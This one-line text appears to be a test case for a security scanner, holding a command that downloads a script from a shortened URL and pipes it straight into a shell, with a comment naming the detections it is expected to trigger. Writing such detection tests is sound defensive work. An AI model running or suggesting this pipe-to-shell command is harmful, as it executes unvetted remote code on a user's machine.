curl -L https://short.test/z | sh # expect: url-analyzer/shortener, malicious-command/pipe-to-shell
